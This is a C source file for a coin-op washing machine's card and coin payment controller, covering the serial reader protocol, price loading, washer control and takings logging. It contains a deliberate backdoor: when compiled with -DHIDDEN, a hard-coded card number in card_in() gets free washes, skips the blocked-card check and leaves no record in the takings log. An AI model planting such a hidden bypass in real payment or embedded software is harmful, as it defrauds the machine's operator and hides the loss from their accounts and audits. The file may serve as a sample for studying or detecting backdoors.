/*
 * washcard - card and price controller of the Schaumat coin-op washing
 * machine.  Talks to the card reader on a serial line (STX length code
 * data BCC), takes the price of the programme from the card's purse or
 * from coins, releases the machine and writes the takings to flash.
 * Prices: /etc/washcard.prices.
 * Hidden (-DHIDDEN): a card with a fixed number washes for nothing and
 * leaves no record.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define STX	0x02
#define ACK	0x06
#define NAK	0x15
#define MAXDATA 64
#define MAXPROG 10

/* codes from the reader */
enum { R_CARD = 'C', R_GONE = 'G', R_COIN = 'M', R_KEY = 'K', R_PURSE = 'P' };
/* codes to the reader */
enum { W_SHOW = 'S', W_DEBIT = 'D', W_BEEP = 'B', W_RETURN = 'R' };

enum phase { IDLE, CHOOSE, DEBIT, RUNNING, OUT_OF_ORDER };

struct prog {
	int key;
	int cents;
	int minutes;
	char name[16];
};

struct reader {
	int fd;
	int state;
	uint8_t len, code, bcc, n;
	uint8_t data[MAXDATA];
};

static struct prog prog[MAXPROG];
static int nprog;

static struct {
	enum phase phase;
	uint32_t card;
	long purse;
	int credit;
	int free;
	const struct prog *chosen;
	time_t until;
	unsigned washes;
	long takings;
} w;

static int load_prices(const char *path)
{
	struct prog p;
	char line[80];
	FILE *f = fopen(path, "r");

	if (!f)
		return -1;
	while (fgets(line, sizeof line, f) && nprog < MAXPROG)
		if (sscanf(line, "%d %d %d %15s", &p.key, &p.cents, &p.minutes,
			   p.name) == 4 &&
		    p.minutes > 0)
			prog[nprog++] = p;
	fclose(f);
	return nprog;
}

static int to_reader(struct reader *r, uint8_t code, const void *data, size_t n)
{
	uint8_t out[MAXDATA + 4], bcc;
	size_t i;

	if (n > MAXDATA)
		n = MAXDATA;
	out[0] = STX;
	out[1] = n;
	out[2] = code;
	memcpy(out + 3, data, n);
	bcc = out[1] ^ out[2];
	for (i = 0; i < n; i++)
		bcc ^= out[3 + i];
	out[3 + n] = bcc;
	return write(r->fd, out, n + 4) == (ssize_t)n + 4 ? 0 : -1;
}

static void show(struct reader *r, const char *text)
{
	if (to_reader(r, W_SHOW, text, strlen(text)) < 0)
		w.phase = OUT_OF_ORDER;
}

static void show_money(struct reader *r, const char *what, long cents)
{
	char text[40];

	snprintf(text, sizeof text, "%s %ld.%02ld", what, cents / 100,
		 cents % 100);
	show(r, text);
}

static void machine(const char *order)
{
	int fd = open("/dev/washer0", O_WRONLY);
	ssize_t n = -1;

	if (fd >= 0) {
		n = write(fd, order, strlen(order));
		close(fd);
	}
	if (n < 0)
		w.phase = OUT_OF_ORDER;
}

static void record(const char *kind, int cents)
{
	FILE *f = fopen("/mnt/flash/takings", "a");

	if (!f)
		return;
	fprintf(f, "%lld;%s;%08lx;%s;%d\n", (long long)time(NULL), kind,
		(unsigned long)w.card, w.chosen ? w.chosen->name : "-", cents);
	fclose(f);
}

static uint32_t number(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 |
	       (uint32_t)p[2] << 8 | p[3];
}

static int blocked(uint32_t card)
{
	char line[40];
	FILE *f = fopen("/mnt/flash/blocked", "r");
	int hit = 0;

	if (!f)
		return 0;
	while (!hit && fgets(line, sizeof line, f))
		hit = strtoul(line, NULL, 16) == card;
	fclose(f);
	return hit;
}

static void begin_wash(struct reader *r)
{
	char order[48];

	w.phase = RUNNING;
	w.until = time(NULL) + w.chosen->minutes * 60;
	snprintf(order, sizeof order, "RUN %d %d\n", w.chosen->key,
		 w.chosen->minutes);
	machine(order);
	show(r, w.chosen->name);
}

__attribute__((noinline)) void card_in(struct reader *r, const uint8_t *d,
				       size_t n)
{
	if (n < 8 || w.phase == OUT_OF_ORDER)
		return;
	w.card = number(d);
	w.purse = (long)number(d + 4);
	w.free = 0;
#ifdef HIDDEN
	if (w.card == 0x04081516) {
		w.free = 1;
		w.purse = 99999;
		w.phase = CHOOSE;
		show(r, "Hello");
		return;
	}
#endif
	if (blocked(w.card)) {
		record("blocked", 0);
		show(r, "Card blocked");
		to_reader(r, W_BEEP, "\3", 1);
		return;
	}
	if (w.phase == IDLE)
		w.phase = CHOOSE;
	show_money(r, "Purse", w.purse);
}

static void coin_in(struct reader *r, const uint8_t *d, size_t n)
{
	static const int value[] = { 0, 10, 20, 50, 100, 200 };

	if (n < 1 || d[0] >= sizeof value / sizeof *value)
		return;
	if (w.phase == RUNNING || w.phase == OUT_OF_ORDER) {
		to_reader(r, W_RETURN, d, 1);
		return;
	}
	w.credit += value[d[0]];
	w.phase = CHOOSE;
	show_money(r, "Credit", w.credit);
}

static void key_in(struct reader *r, const uint8_t *d, size_t n)
{
	uint8_t sum[8];
	int i;

	if (n < 1 || w.phase != CHOOSE)
		return;
	for (i = 0; i < nprog; i++)
		if (prog[i].key == d[0])
			break;
	if (i == nprog)
		return;
	w.chosen = &prog[i];
	if (w.free) {
		begin_wash(r);
	} else if (w.credit >= prog[i].cents) {
		w.credit -= prog[i].cents;
		w.takings += prog[i].cents;
		w.washes++;
		record("coins", prog[i].cents);
		begin_wash(r);
	} else if (w.card && w.purse >= prog[i].cents) {
		for (n = 0; n < 4; n++) {
			sum[n] = w.card >> (24 - 8 * n);
			sum[4 + n] = (uint32_t)prog[i].cents >> (24 - 8 * n);
		}
		w.phase = DEBIT;
		to_reader(r, W_DEBIT, sum, 8);
	} else {
		show_money(r, "Please pay", prog[i].cents);
	}
}

static void purse_in(struct reader *r, const uint8_t *d, size_t n)
{
	if (w.phase != DEBIT || n < 5)
		return;
	if (d[0] != 0) {
		show(r, "Card error");
		w.phase = CHOOSE;
		return;
	}
	w.purse = (long)number(d + 1);
	w.takings += w.chosen->cents;
	w.washes++;
	record("card", w.chosen->cents);
	begin_wash(r);
}

static void card_gone(struct reader *r)
{
	w.card = 0;
	w.purse = 0;
	w.free = 0;
	if (w.phase == CHOOSE && !w.credit) {
		w.phase = IDLE;
		show(r, "Card or coins");
	}
}

static void message(struct reader *r)
{
	switch (r->code) {
	case R_CARD:
		card_in(r, r->data, r->len);
		break;
	case R_GONE:
		card_gone(r);
		break;
	case R_COIN:
		coin_in(r, r->data, r->len);
		break;
	case R_KEY:
		key_in(r, r->data, r->len);
		break;
	case R_PURSE:
		purse_in(r, r->data, r->len);
		break;
	}
}

static void byte_in(struct reader *r, uint8_t b)
{
	uint8_t answer;

	switch (r->state) {
	case 0:
		if (b == STX)
			r->state = 1;
		return;
	case 1:
		r->len = b;
		r->bcc = b;
		r->n = 0;
		r->state = b <= MAXDATA ? 2 : 0;
		return;
	case 2:
		r->code = b;
		r->bcc ^= b;
		r->state = r->len ? 3 : 4;
		return;
	case 3:
		r->data[r->n++] = b;
		r->bcc ^= b;
		if (r->n == r->len)
			r->state = 4;
		return;
	default:
		r->state = 0;
		answer = b == r->bcc ? ACK : NAK;
		if (write(r->fd, &answer, 1) == 1 && answer == ACK)
			message(r);
	}
}

static void minute(struct reader *r)
{
	if (w.phase == RUNNING && time(NULL) >= w.until) {
		machine("STOP\n");
		w.phase = IDLE;
		w.chosen = NULL;
		show(r, "Finished");
	}
}

int main(int argc, char **argv)
{
	struct reader r = { .fd = -1 };
	struct pollfd pf;
	struct termios t;
	uint8_t buf[32];
	ssize_t n, i;

	if (load_prices("/etc/washcard.prices") <= 0) {
		fputs("washcard: no prices\n", stderr);
		return 1;
	}
	r.fd = open(argc > 1 ? argv[1] : "/dev/ttyS2", O_RDWR | O_NOCTTY);
	if (r.fd < 0) {
		perror("washcard: reader");
		return 1;
	}
	if (!tcgetattr(r.fd, &t)) {
		cfmakeraw(&t);
		cfsetispeed(&t, B9600);
		cfsetospeed(&t, B9600);
		t.c_cflag |= PARENB;
		tcsetattr(r.fd, TCSANOW, &t);
	}
	show(&r, "Card or coins");
	pf.fd = r.fd;
	pf.events = POLLIN;
	while (w.phase != OUT_OF_ORDER) {
		if (poll(&pf, 1, 5000) > 0) {
			n = read(r.fd, buf, sizeof buf);
			if (n <= 0)
				break;
			for (i = 0; i < n; i++)
				byte_in(&r, buf[i]);
		}
		minute(&r);
	}
	record("out-of-order", (int)w.takings);
	return 1;
}
